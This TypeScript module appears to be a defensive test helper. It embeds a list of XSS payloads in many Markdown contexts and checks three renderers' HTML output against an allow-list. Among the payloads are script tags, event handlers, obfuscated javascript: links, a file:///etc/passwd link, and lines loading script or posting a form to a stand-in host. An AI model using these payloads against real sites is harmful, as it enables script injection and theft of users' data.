// Markdown that tries to get active content into a page, and what renderers make of a text.
import { HtmlRenderer, Parser } from 'commonmark'
import MarkdownIt from 'markdown-it'
import { marked } from 'marked'
import { defaultTreeAdapter, parseFragment, type DefaultTreeAdapterMap } from 'parse5'

const markdownIt = new MarkdownIt({ html: true })

export const RENDERERS: Record<string, (text: string) => string> = {
  'markdown-it': (text) => markdownIt.render(text),
  marked: (text) => marked.parse(text, { async: false }),
  commonmark: (text) => new HtmlRenderer({ safe: false }).render(new Parser().parse(text)),
}

/** What would run, load or mislead. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<script src=//e.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x"onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=http://e.example/x.png onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<svg/onload=alert(1)>',
  '<svg><set attributeName=onmouseover to=alert(1)></svg>',
  '<a href=javascript:alert(1)//x>y</a>',
  '<a href="java&#115;cript:alert(1)">y</a>',
  '<iframe src=https://e.example/></iframe>',
  '<form action=//e.example/><input name=p></form>',
  '<video src=//e.example/v autoplay onplay=alert(1)>',
  '<body onload=alert(1)>',
  '<base href=//e.example/>',
  '<meta http-equiv=refresh content="0;url=//e.example/">',
  '<link rel=stylesheet href=//e.example/s.css>',
  '<style>@import "//e.example/s.css"</style>',
  '<object data=//e.example/o></object>',
  '<math><mi//xlink:href="javascript:alert(1)">',
  '<x-y onclick=alert(1)>',
  '<b\nonmouseover=alert(1)>b</b>',
  '<b\n\nonmouseover=alert(1)>',
  '</div><div onclick=alert(1)>',
  '<!-- --><img src=x onerror=alert(1)> -->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!doctype html><p onclick=x>',
  '<?php echo 1 ?><b onclick=x>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<scr<b>ipt>alert(1)</scr</b>ipt>',
  '<img src=`x` onerror=alert(1)>',
  '<a title="`" onclick=alert(1)>`</a>',
  '[y](javascript:alert(1))',
  '[y](<javascript:alert(1)>)',
  '[y]( java&Tab;script&colon;alert(1))',
  '[y](JaVa&#x53;cript:alert(1) "t")',
  '[y](vbscript:x)',
  '[y](data:text/html;base64,PHNjcmlwdD4=)',
  '[y](file:///etc/passwd)',
  '[y](\\javascript:alert(1))',
  '[y][ref]\n\n[ref]: javascript:alert(1)',
  '[ref]\n\n[ref]:\njavascript:alert(1)',
  '<javascript:alert(1)>',
  '![y](http://e.example/t.png)',
  '![y](//e.example/t.png)',
  '![y][pic]\n\n[pic]: http://e.example/t.png',
  '![y\\](z](http://e.example/t.png)',
  '![](data:image/svg+xml;base64,PHN2Zz4=)',
  'https://e.example/\\<img src=x onerror=alert(1)>',
  'a@e.example\\<b onclick=x>c</b>',
  'www.e.example/`<b onclick=x>`',
  '[``](javascript:alert(1))``',
  '[a ```](https://e.example)<b onclick=x>```',
]

/** Contexts that renderers read differently. `§` is the payload. */
const PLACES = [
  '§',
  'words § words',
  '# § heading',
  '- item §',
  '- item\n\n    §\n',
  '- item\n  - deeper\n\n        §\n',
  '1. one\n\n   §\n',
  '> quote §',
  '> - `§\n> words`',
  '| a | b |\n|---|---|\n| § | c |',
  '| a |\n|---|\n| `x | §` |',
  'note[^1]\n\n[^1]: §\n',
  'note[^1]\n\n[^1]: x\n\n    §\n',
  '**§**',
  '[§](https://e.example)',
  '[a](https://e.example "§")',
  'a ` b §',
  'a \\` b § `',
  'a `` b ` § `',
  '`a` \\\\`§`',
  '- ~~~\n§\n~~~\n',
  '> ~~~\n~~~\n§\n~~~\n',
  'para\n    ~~~\n    §\n    ~~~',
  '- - ```\n    x\n    ```\n\n  §\n',
  '```\nx\n```~~~\n§\n```\n',
  '~~~\nx\n    ~~~\n§\n',
  '  ```\n  x\n ```\n§\n',
  '   - a\n\n         §\n',
  '\t§',
  'para\n\t§',
  '$a`b$ c `§`',
  '<div>\n\n    §\n',
  '[x]: /u "`\n§\n`"\n',
  'term\n:   ```\n    §\n',
]

export function liveMarkdown(): string[] {
  return PLACES.flatMap((place) => PAYLOADS.map((payload) => place.replace('§', () => payload)))
}

const ELEMENTS = new Set(
  'p h1 h2 h3 h4 h5 h6 ul ol li blockquote pre code em strong a hr br table thead tbody tr th td img s del input'.split(
    ' ',
  ),
)
const ATTRIBUTES: Record<string, string[]> = {
  a: ['href', 'title'],
  img: ['src', 'alt', 'title'],
  ol: ['start'],
  code: ['class'],
  th: ['style', 'align'],
  td: ['style', 'align'],
  input: ['type', 'checked', 'disabled'],
}

/** Everything in a text that is not Markdown's own output, in any of the renderers. */
export function livePieces(text: string): string[] {
  const found = new Set<string>()
  for (const [name, render] of Object.entries(RENDERERS)) {
    for (const element of elementsOf(parseFragment(render(text)))) {
      const tag = element.tagName
      if (!ELEMENTS.has(tag)) found.add(`${name}: <${tag}>`)
      for (const { name: key, value } of element.attrs) {
        if (!(ATTRIBUTES[tag] ?? []).includes(key)) found.add(`${name}: <${tag} ${key}>`)
        const target = value.replace(/[\p{Cc}\s]+/gu, '')
        if (key !== 'href' && key !== 'src') continue
        if (/^(?:javascript|vbscript|file|data|obsidian):/i.test(target) && !target.startsWith('data:image/png;'))
          found.add(`${name}: ${key}=${value.slice(0, 40)}`)
        if (tag === 'img' && /^(?:[a-z]+:)?\/\//i.test(target)) found.add(`${name}: remote ${value.slice(0, 40)}`)
      }
    }
  }
  return [...found]
}

function* elementsOf(parent: DefaultTreeAdapterMap['parentNode']): Generator<DefaultTreeAdapterMap['element']> {
  for (const child of parent.childNodes) {
    if (!defaultTreeAdapter.isElementNode(child)) continue
    yield child
    yield* elementsOf('content' in child ? child.content : child)
  }
}
